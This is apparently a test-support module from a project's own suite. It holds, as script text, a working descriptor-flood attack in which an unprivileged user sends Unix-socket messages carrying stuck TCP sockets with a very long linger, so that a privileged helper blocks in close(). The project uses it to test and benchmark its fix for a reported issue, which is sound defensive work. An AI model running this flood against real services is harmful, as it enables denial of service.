"""The descriptor flood of issue 14 (item 2) as scripts, shared by
tests/test_helper_freeze.py (via tests/helper_attacks.py), tests/test_helper.py
and bench/bench_freeze.py. Plain text: run them with Debian's python3 -c as
the attacking user."""

import textwrap

# Script text: stuck_socket() returns a loopback TCP socket whose send queue
# holds data the peer never reads, with SO_LINGER {1, LINGER} (the script
# sets LINGER): whoever drops the last reference blocks in close() until the
# linger ends. Needs os, socket imported.
STUCK_SOCKET = textwrap.dedent(r'''
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1024)


    def stuck_socket():
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        s.connect(listener.getsockname())
        s.setblocking(False)
        try:
            while True:
                s.send(b"x" * 4096)
        except BlockingIOError:
            pass
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, (1).to_bytes(4, "little") + LINGER.to_bytes(4, "little"))
        return s
''')


# Run as an unprivileged user (issue 14, item 2): argv SOCKET CONNECTIONS
# FDS SECONDS. Opens CONNECTIONS connections to SOCKET, waits until the helper
# has accepted them, then sends on each a ping carrying FDS descriptors, the
# first a loopback TCP socket with unsent
# data and SO_LINGER {1, 1000000} (whoever drops the last reference blocks
# in close() until the peer acknowledges: never), the rest /dev/null, a pipe,
# an eventfd and dups of the socket; drops its own references, prints
# "passed", then sends the same kind of message on a new connection every
# 20 ms (keeping up to CONNECTIONS open) for SECONDS, and prints its counts.
DESCRIPTOR_FLOOD = textwrap.dedent(r'''
    import errno, json, os, socket, sys, time
    path, connections, nfds, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    LINGER = 1000000
''') + STUCK_SOCKET + textwrap.dedent(r'''
    others = [os.open("/dev/null", os.O_RDONLY), *os.pipe(), os.eventfd(0)]
    counts, held = {}, []


    def note(key):
        counts[key] = counts.get(key, 0) + 1


    def send_one(c=None):
        stuck = stuck_socket()
        fds = [stuck.fileno()] + [others[i % len(others)] if i % 2 else stuck.fileno() for i in range(nfds - 1)]
        try:
            if c is None:
                c = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                c.setblocking(False)
                c.connect(path)
            c.sendmsg([b'{"v":2,"op":"ping"}'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                                                  b"".join(fd.to_bytes(4, "little") for fd in fds))])
            note("sent")
            held.append(c)
        except OSError as e:
            note(errno.errorcode.get(e.errno, str(e.errno)))
            c.close()
            # Not sent: our reference is the last, and we do not want to wait either.
            stuck.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, (1).to_bytes(4, "little") + bytes(4))
        stuck.close()               # the message in flight holds the last reference
        while len(held) > connections:
            held.pop(0).close()     # never read: the answer, if any, is dropped with it


    # All connections first (the helper accepts them), then a message on each.
    first = []
    for _ in range(connections):
        c = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        c.connect(path)
        c.setblocking(False)
        first.append(c)
    time.sleep(0.3)
    for c in first:
        send_one(c)
    print("passed", flush=True)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        send_one()
        time.sleep(0.02)
    print(json.dumps(counts), flush=True)
    time.sleep(3600)
''')
